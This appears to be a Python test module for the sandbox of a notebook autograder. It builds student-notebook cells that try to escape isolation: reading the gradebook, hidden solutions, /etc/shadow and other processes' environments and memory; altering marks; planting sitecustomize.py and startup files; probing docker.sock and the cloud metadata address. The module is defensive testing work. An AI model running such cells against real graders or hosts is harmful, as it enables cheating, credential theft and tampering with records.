"""Attempts to read, change or reach what is none of the student's business."""

from tests.faults.corpus import Fault, Link
from tests.faults.notebooks import Notebooks
from tests.faults.whole import COURSE, FILES, PORT, REPOSITORY, case, in_call, in_cell, in_right_answer

# Prints what can be read below some folders.
_SHOW = """
import pathlib

def show(*roots):
    for root in map(pathlib.Path, roots):
        print(root, root.exists())
        for path in [root, *(root.rglob("*") if root.is_dir() else [])]:
            try:
                print(path, path.read_bytes()[:5000] if path.is_file() else "")
            except OSError as error:
                print(error)
"""


@case(FILES)
def reads_the_gradebook(nb: Notebooks) -> Fault:
    """A cell looks for the gradebook and prints its tables."""
    source = f"""
import sqlite3
connection = sqlite3.connect("file:{COURSE}/gradebook.db?mode=ro", uri=True)
print(connection.execute("select * from grade").fetchall())
"""
    return in_cell(nb, source)


@case(FILES)
def writes_marks(nb: Notebooks) -> Fault:
    """A cell writes marks into the gradebook."""
    source = f"""
import sqlite3
connection = sqlite3.connect("{COURSE}/gradebook.db")
connection.execute("update grade set points = 100")
connection.commit()
"""
    return in_cell(nb, source)


@case(FILES)
def moves_the_gradebook(nb: Notebooks) -> Fault:
    """Cells move, empty and delete the course."""
    source = f"""
import contextlib, os, shutil
with contextlib.suppress(OSError):
    os.rename("{COURSE}/gradebook.db", "{COURSE}/gone.db")
with contextlib.suppress(OSError):
    open("{COURSE}/gradebook.db", "w").close()
shutil.rmtree("{COURSE}", ignore_errors=True)
"""
    return in_cell(nb, source)


@case(FILES)
def appends_to_the_settings(nb: Notebooks) -> Fault:
    """A cell adds a command to nbgrader's settings, here and in every place that nbgrader looks at."""
    source = f"""
import os
for folder in ["{COURSE}", ".", os.path.expanduser("~/.jupyter"), "/etc/jupyter", "/usr/local/etc/jupyter"]:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(f"{{folder}}/nbgrader_config.py", "a") as file:
            file.write("raise SystemExit('ran')")
    except OSError as error:
        print(error)
"""
    return in_cell(nb, source)


@case(FILES)
def reads_the_course(nb: Notebooks) -> Fault:
    """A cell prints solutions, classmates' work and everything else in the course."""
    return in_cell(nb, f'{_SHOW}\nshow("{COURSE}")')


@case(FILES)
def reads_the_repository(nb: Notebooks) -> Fault:
    """A cell prints hidden tests and solutions from where they are kept."""
    places = ("autograder/hidden", "solutions", "nbgrader_config.py", ".git/config")
    return in_cell(nb, f"{_SHOW}\nshow(*(f'{REPOSITORY}/{{place}}' for place in {places}))")


@case(FILES)
def reads_the_homes(nb: Notebooks) -> Fault:
    """A cell prints what it finds in homes, run folders and other people's places."""
    folders = ("/root", "/home", "/work", "/srv", "/var", "/mnt", "/media", "/opt", "/run", "/boot")
    return in_cell(nb, f"{_SHOW}\nshow(*{folders}, '/etc/passwd', '/etc/shadow')")


@case(FILES)
def climbs_up(nb: Notebooks) -> Fault:
    """A graded function looks for the solution in all folders above, and in those of other processes."""
    lines = """
import glob, os
for root in ['..', '../..', '../../..', '/proc/1/root', '/proc/1/cwd', f'/proc/{os.getppid()}/root']:
    for path in glob.glob(f'{root}/**/*.ipynb', recursive=True)[:20]:
        print(path, open(path).read())
return None
"""
    return in_call(nb, lines)


@case(FILES)
def reads_the_processes(nb: Notebooks) -> Fault:
    """A cell prints the command line, the environment and the open files of every process."""
    source = """
import glob, os
for path in glob.glob("/proc/[0-9]*/*") + ["/proc/mounts", "/proc/keys", "/proc/cmdline"]:
    if os.path.basename(path) in ("cmdline", "environ", "maps", "mountinfo", "mounts", "status", "keys"):
        try:
            print(path, open(path, "rb").read()[:3000])
        except OSError as error:
            print(error)
for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        print(path, os.readlink(path))
    except OSError as error:
        print(error)
"""
    return in_cell(nb, source)


@case(FILES)
def reads_the_environment(nb: Notebooks) -> Fault:
    """A cell prints the environment and starts a program that does."""
    return in_cell(nb, "import os\nprint(os.environ)\n!env")


@case(FILES)
def reads_memory_of_others(nb: Notebooks) -> Fault:
    """A cell tries to read the memory of all processes that it can see."""
    source = """
import glob
for path in glob.glob("/proc/[0-9]*/mem"):
    if "self" not in path:
        try:
            with open(path, "rb") as file:
                file.seek(0x400000)
                print(path, file.read(100))
        except (OSError, ValueError) as error:
            print(error)
"""
    return in_cell(nb, source)


@case(FILES)
def changes_the_installation(nb: Notebooks) -> Fault:
    """A cell changes NumPy's files and Python's start for the submissions after it."""
    source = """
import os, site, sys
for path in [np.__file__, os.__file__, sys.executable, *site.getsitepackages()]:
    for target in (path, os.path.join(os.path.dirname(path), "sitecustomize.py")):
        try:
            os.chmod(target, 0o777)
        except OSError as error:
            print(error)
        try:
            os.close(os.open(target, os.O_RDWR | os.O_CREAT))
            print("WRITABLE", target)
        except OSError as error:
            print(error)
"""
    return in_cell(nb, source)


@case(FILES)
def writes_modules_into_its_folder(nb: Notebooks) -> Fault:
    """A cell writes modules and start files for the kernels after it."""
    source = """
import os
home = os.path.expanduser("~")
os.makedirs(f"{home}/.ipython/profile_default/startup", exist_ok=True)
for path in ("numpy.py", "json.py", "sitecustomize.py", "conftest.py", "autograder.py", "ipython_config.py",
             f"{home}/.ipython/profile_default/startup/00.py", f"{home}/sitecustomize.py"):
    with open(path, "w") as file:
        file.write("raise SystemExit('ran')")
"""
    return in_cell(nb, source)


@case(FILES)
def modules_handed_in(nb: Notebooks) -> Fault:
    """Beside the notebook lie modules, settings and tests that would change what runs."""
    names = (
        *("numpy.py", "json.py", "conftest.py", "pytest.ini", "autograder.py", "sitecustomize.py"),
        *("ipython_config.py", "nbgrader_config.py", "usercustomize.py", "pyproject.toml", ".env"),
        *("autograder/__init__.py", ".ipython/profile_default/startup/00.py", "__pycache__/numpy.pyc"),
    )
    return Fault({nb.file_name: nb.answered} | dict.fromkeys(names, b"raise SystemExit('ran')\n"))


@case(FILES)
def links_handed_in(nb: Notebooks) -> Fault:
    """Beside the notebook lie links to the gradebook, a classmate's folder, a device and itself."""
    links = {
        "data.csv": Link(f"{COURSE}/gradebook.db"),
        "images": Link(f"{COURSE}/submitted"),
        "zero.csv": Link("/dev/zero"),
        "loop": Link("loop"),
        "up": Link(".."),
    }
    return Fault({nb.file_name: nb.answered} | links)


@case(FILES)
def archives_handed_in(nb: Notebooks) -> Fault:
    """Beside the notebook lie things that look like archives; nobody unpacks them."""
    return Fault(
        {nb.file_name: nb.answered, "work.zip": b"PK\x03\x04" * 1000, "work.tar.gz": b"\x1f\x8b" * 1000}
    )


@case(FILES)
def links_to_the_outside(nb: Notebooks) -> Fault:
    """A cell makes links to what it must not read, and reads them."""
    source = f"""
import os
targets = ["{COURSE}/gradebook.db", "/proc/1/root/etc/shadow", "{REPOSITORY}/solutions"]
for number, target in enumerate(targets):
    for make in (os.symlink, os.link):
        try:
            make(target, f"link{{number}}")
            print(open(f"link{{number}}", "rb").read())
        except OSError as error:
            print(error)
"""
    return in_cell(nb, source)


@case(FILES)
def calls_home(nb: Notebooks) -> Fault:
    """A cell sends the notebook to this machine, to another one, and asks for a name."""
    source = f"""
import contextlib, socket
for address in [("127.0.0.1", {PORT}), ("::1", {PORT}), ("10.0.0.1", 80), ("169.254.169.254", 80)]:
    try:
        socket.create_connection(address, timeout=1).sendall(b"answers")
        print("CONNECTED", address)
    except OSError as error:
        print(error)
try:
    print("RESOLVED", socket.getaddrinfo("localhost.example.org", 80))
except OSError as error:
    print(error)
"""
    return in_cell(nb, source)


@case(FILES)
def calls_home_in_a_function(nb: Notebooks) -> Fault:
    """A graded function asks a server for the answer."""
    lines = f"""
import urllib.request
with urllib.request.urlopen('http://127.0.0.1:{PORT}/answer', timeout=1) as reply:
    return float(reply.read())
"""
    return in_call(nb, lines, "Your code stopped with URLError")


@case(FILES)
def knocks_at_local_sockets(nb: Notebooks) -> Fault:
    """A cell connects to every socket of this machine that has a name, and raw to the network."""
    source = f"""
import glob, socket
names = ["\\0{PORT}", "{COURSE}/socket", *glob.glob("/tmp/**/k-*", recursive=True), "/run/docker.sock"]
for name in names:
    with socket.socket(socket.AF_UNIX) as item:
        try:
            item.connect(name)
            print("CONNECTED", repr(name))
        except OSError as error:
            print(error)
for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM):
    try:
        socket.socket(socket.AF_INET, kind).sendto(b"answers", ("127.0.0.1", {PORT}))
    except OSError as error:
        print(error)
"""
    return in_cell(nb, source)


@case(FILES)
def downloads_a_data_set(nb: Notebooks) -> Fault:
    """An honest cell downloads a data set, which fails without a network."""
    return in_cell(nb, "from tensorflow import keras\nkeras.datasets.mnist.load_data()")


@case(FILES)
def files_of_its_own(nb: Notebooks) -> Fault:
    """A graded function honestly keeps results in files, in all places for that."""
    lines = """
import os, tempfile
with tempfile.TemporaryDirectory() as folder:
    np.save(f'{folder}/moving.npy', moving)
    moving = np.load(f'{folder}/moving.npy')
for folder in ('.', '/tmp', '/dev/shm', os.path.expanduser('~')):
    np.savetxt(f'{folder}/batch.txt', batch_value)
    assert np.allclose(np.loadtxt(f'{folder}/batch.txt'), batch_value)
"""
    return in_right_answer(nb, lines)
